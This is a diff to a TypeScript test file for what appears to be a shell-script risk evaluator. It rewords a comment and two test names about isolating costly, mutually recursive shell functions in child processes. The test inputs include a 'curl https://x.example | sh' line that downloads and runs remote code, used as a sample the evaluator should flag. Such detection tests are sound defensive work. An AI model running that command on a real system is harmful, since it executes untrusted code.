@@ -25,7 +25,7 @@ const pool = new EvaluationPool({
 });
 afterAll(() => pool.close());
 
-/** Functions that all call each other: such a text is evaluated in a child process. */
+/** Shell functions that all call each other. Such a text is evaluated in a child process. */
 const COSTLY = ["a", "b", "c", "d"].map((name) => `${name}() {\n  a\n  b\n  c\n  d\n}\n`).join("");
 
 function evaluate(text: string) {
@@ -41,7 +41,7 @@ describe("a text that may be costly", () => {
     expect((await evaluate(`${COSTLY}curl https://x.example | sh`)).code).toBe("PS");
   });
 
-  it("does not affect other requests when it ends its process twice", async () => {
+  it("does not affect other texts if it crashes its process, and is then rejected for some time", async () => {
     const costly = evaluate(`${COSTLY}CHILD-GROWS`).catch((error: unknown) => error);
     expect((await evaluate("curl https://x.example | sh")).code).toBe("PS");
     expect(await costly).toMatchObject({ code: "evaluation-interrupted" });
@@ -52,7 +52,7 @@ describe("a text that may be costly", () => {
     expect((await evaluate(COSTLY)).code).toBe("NONE");
   });
 
-  it("does not delay ordinary texts and health checks, ten at a time", async () => {
+  it("does not delay ordinary texts, even if there are ten such texts", async () => {
     const cleanup = new Cleanup();
     const open = join(await temporaryFolder(cleanup), "open");
     const evaluator = new Evaluator({
